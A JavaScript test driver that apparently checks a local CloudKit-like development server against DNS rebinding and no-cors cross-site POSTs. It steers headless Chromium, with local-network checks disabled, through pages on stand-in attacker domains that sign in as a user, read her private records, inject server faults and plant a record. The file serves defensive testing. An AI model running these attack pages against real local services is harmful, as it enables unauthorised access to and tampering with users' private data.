// Plays two attacker pages in headless Chromium against `sharelane serve`, as a page on a developer's
// machine could (Chromium is driven over the DevTools pipe by Scripts/browser/cdp-pipe.mjs, read from the
// source tree as this file is):
//
// - rebinding: a page of http://rebind.example:PORT, where PORT is serve's. The attacker's server answers the
//   page itself (played here by the DevTools Fetch domain, which fulfils that one request), then the name
//   points at this machine (mapped to 127.0.0.1 with --host-resolver-rules), so the page's own requests reach
//   serve. The page is same-origin with serve, so CORS never applies: with the API token (every CloudKit JS
//   app's page source holds one) it signs alice in and reads her private records.
// - no-cors: a page of http://evil.example:OTHER (a server of this driver's) sends `no-cors` text/plain POSTs,
//   which need no preflight, to serve: a network change, a sign-in that would create a user, and a record
//   written into alice's private zone with her web auth token. It cannot read the answers; what they did is
//   for the test to look at in serve afterwards.
//
//   node attack-driver.mjs CHROMIUM SERVER API_TOKEN WEB_AUTH_TOKEN CONTAINER
//
// Prints one JSON line: {rebinding: {page, signIn, read}, noCors: "sent"}, or {error}.
import { launchChromium, serveOnLoopback } from '../../../Scripts/browser/cdp-pipe.mjs';

const [chromiumPath, server, apiToken, webAuthToken, container] = process.argv.slice(2);
const serverPort = new URL(server).port;
const deadline = Date.now() + 60_000;

const { server: evil, origin: evilLoopback } = await serveOnLoopback((request, response) => {
  response.writeHead(200, { 'content-type': 'text/html; charset=utf-8' });
  response.end('<!doctype html><title>A page of another site</title><p>Nothing to see here.</p>');
});
const evilOrigin = `http://evil.example:${new URL(evilLoopback).port}`;

const browser = launchChromium(chromiumPath, {
  profilePrefix: 'sharelane-attack-', deadline, waitAtMost: 10_000,
  flags: [
    '--host-resolver-rules=MAP rebind.example 127.0.0.1, MAP evil.example 127.0.0.1',
    // Chromium asks the person before a page of a public address reaches this machine (Local Network
    // Access); other browsers do not, and a person may say yes: turned off, the browser plays one without it.
    '--disable-features=LocalNetworkAccessChecks',
  ],
  report: (error) => [JSON.stringify({ error })],
});
browser.onFinish(() => evil.close());
setTimeout(() => browser.fail('timed out'), 60_000).unref();
const { send, evaluate } = browser;

// A tab on `url`, loaded; its session, and the HTTP status its document was answered with. With `page`,
// the document is that HTML, as another server answered it, and only the tab's later requests go out.
async function open(url, page) {
  const sessionId = await browser.open('about:blank');
  await send('Page.enable', {}, sessionId);
  if (page) {
    browser.onEvent((message) => {
      if (message.method !== 'Fetch.requestPaused' || message.sessionId !== sessionId) return;
      send('Fetch.fulfillRequest', {
        requestId: message.params.requestId, responseCode: 200,
        responseHeaders: [{ name: 'Content-Type', value: 'text/html; charset=utf-8' }],
        body: Buffer.from(page).toString('base64'),
      }, sessionId).catch(() => {});
    });
    await send('Fetch.enable', { patterns: [{ urlPattern: url, requestStage: 'Request' }] }, sessionId);
  }
  await send('Page.navigate', { url }, sessionId);
  await browser.until(`${url} to load`, () =>
    evaluate(sessionId, `document.readyState === 'complete' && location.href === ${JSON.stringify(url)}`));
  const status = await evaluate(sessionId, "performance.getEntriesByType('navigation')[0]?.responseStatus ?? 0");
  return { sessionId, status };
}

try {
  // The rebound page: everything it asks is same-origin.
  const rebound = await open(`http://rebind.example:${serverPort}/`,
    '<!doctype html><title>A page of a rebound name</title><p>Nothing to see here.</p>');
  const rebinding = await evaluate(rebound.sessionId, `(async () => {
    const text = (body) => ({ method: 'POST', headers: { 'content-type': 'text/plain' }, body: JSON.stringify(body) });
    const signIn = await fetch('/auth/signin?ckAPIToken=' + encodeURIComponent(${JSON.stringify(apiToken)}),
      text({ emailAddress: 'alice@example.com' }));
    const signInText = await signIn.text();
    let token = null;
    try { token = JSON.parse(signInText).ckWebAuthToken; } catch {}
    let read = null;
    if (token) {
      const query = new URLSearchParams({ ckAPIToken: ${JSON.stringify(apiToken)}, ckWebAuthToken: token });
      const answer = await fetch('/database/1/' + ${JSON.stringify(container)} + '/development/private/records/query?' + query,
        text({ zoneID: { zoneName: 'Diary' }, query: { recordType: 'Entry' } }));
      read = { status: answer.status, text: await answer.text() };
    }
    return { signIn: { status: signIn.status, text: signInText }, read };
  })()`);
  rebinding.page = rebound.status;

  // The page of another origin: no-cors POSTs, whose answers it never sees.
  const stranger = await open(`${evilOrigin}/`);
  const noCors = await evaluate(stranger.sessionId, `(async () => {
    const post = (path, body) => fetch(${JSON.stringify(server)} + path,
      { method: 'POST', mode: 'no-cors', headers: { 'content-type': 'text/plain' }, body: JSON.stringify(body) })
      .then((answer) => answer.type, (error) => 'failed: ' + error);
    const api = 'ckAPIToken=' + encodeURIComponent(${JSON.stringify(apiToken)});
    const results = [];
    results.push(await post('/_sharelane/faults?' + api, { faults: 'unavailable=100%' }));
    results.push(await post('/auth/signin?' + api, { emailAddress: 'mallory@example.com' }));
    results.push(await post('/database/1/' + ${JSON.stringify(container)} + '/development/private/records/modify?' + api
      + '&ckWebAuthToken=' + encodeURIComponent(${JSON.stringify(webAuthToken)}), {
        zoneID: { zoneName: 'Diary' },
        operations: [{ operationType: 'create', record: { recordType: 'Entry', recordName: 'planted',
          fields: { text: { value: 'written by a page of evil.example' } } } }],
      }));
    return results;
  })()`);
  browser.finish(0, [JSON.stringify({ rebinding, noCors, evilOrigin })]);
} catch (error) {
  browser.fail(error.message);
}
